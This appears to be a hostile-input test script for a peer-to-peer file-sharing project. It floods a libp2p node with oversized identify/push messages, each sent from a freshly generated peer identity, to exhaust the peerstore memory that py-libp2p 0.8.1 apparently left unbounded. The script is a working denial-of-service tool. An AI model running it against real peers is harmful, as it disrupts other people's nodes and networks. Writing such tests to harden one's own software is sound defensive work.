"""``python -m tests.hostile.identify_flood ADDR N KIND BYTES``: ``N`` fresh
peer identities (peer IDs cost nothing to make), one after another, each
connecting to the peer at ``ADDR`` (a multiaddr with ``/p2p/<id>``) and
sending one identify/push message of about ``BYTES`` bytes, then leaving.
``KIND`` fills it with protocol names (``protocols``), listen addresses
(``addrs``) or one signed peer record holding that many addresses
(``record``). Prints ``{"pushed": P, "entries": E, "bytes": B}``.

py-libp2p 0.8.1 read such a message of up to 1 MiB and kept all of it in
the peerstore, per identity, for up to 1,000 identities.
"""

from __future__ import annotations

import json
import sys

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.envelope import seal_record
from libp2p.peer.id import ID
from libp2p.peer.peer_record import PeerRecord
from multiaddr import Multiaddr

from p2pshare.node.host import open_host

PUSH = "/ipfs/id/push/1.0.0"


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        low, n = n & 0x7F, n >> 7
        out.append(low | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _field(tag: int, data: bytes) -> bytes:
    return _varint(tag) + _varint(len(data)) + data


def _addr(i: int) -> bytes:
    return Multiaddr(f"/ip4/10.{(i >> 16) & 255}.{(i >> 8) & 255}.{i & 255}/tcp/4001").to_bytes()


def message(kind: str, size: int, key_pair: object) -> tuple[bytes, int]:
    """An Identify protobuf of about ``size`` bytes, and how many entries it holds."""
    parts: list[bytes] = []
    total = count = 0
    while total < size:
        if kind == "protocols":
            part = _field(0x1A, f"/x/{count:08d}".encode())  # field 3: protocols
        else:
            part = _field(0x12, _addr(count))  # field 2: listenAddrs
        parts.append(part)
        total += len(part)
        count += 1
    if kind == "record":
        kp = key_pair
        record = PeerRecord(ID.from_pubkey(kp.public_key), [Multiaddr(_addr(i)) for i in range(count)])  # type: ignore[attr-defined]
        envelope = seal_record(record, kp.private_key)  # type: ignore[attr-defined]
        return _field(0x42, envelope.marshal_envelope()), count  # field 8: signedPeerRecord
    return b"".join(parts), count


async def main(addr: str, n: int, kind: str, size: int) -> None:
    peer = addr.rsplit("/p2p/", 1)[1]
    pushed = entries = nbytes = 0
    for _ in range(n):
        key_pair = create_new_key_pair()
        body, entries = message(kind, size, key_pair)
        nbytes = len(body)
        async with open_host(key_pair, []) as host:
            await host.connect(peer, [addr], timeout=10)
            stream = await host.open_stream(peer, PUSH)
            await stream.write(_varint(len(body)) + body)
            await stream.close_write()
            with trio.move_on_after(2):
                await stream.read(1)  # the handler closes its side once it has stored the message
            pushed += 1
    print(json.dumps({"pushed": pushed, "entries": entries, "bytes": nbytes}), flush=True)


if __name__ == "__main__":
    trio.run(main, sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]))
